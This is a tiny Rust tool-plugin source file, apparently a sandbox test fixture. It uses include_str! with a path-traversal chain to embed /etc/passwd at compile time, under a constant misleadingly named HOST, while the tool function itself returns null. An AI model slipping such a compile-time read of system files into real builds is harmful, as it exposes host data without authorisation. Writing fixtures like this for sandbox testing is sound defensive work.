use tool_sdk::prelude::*;
const HOST: &str = include_str!("../../../../../../../../etc/passwd");
fn call(_: Value) -> Result<Value, Failure> { Ok(json!(null)) }
tool!(call);
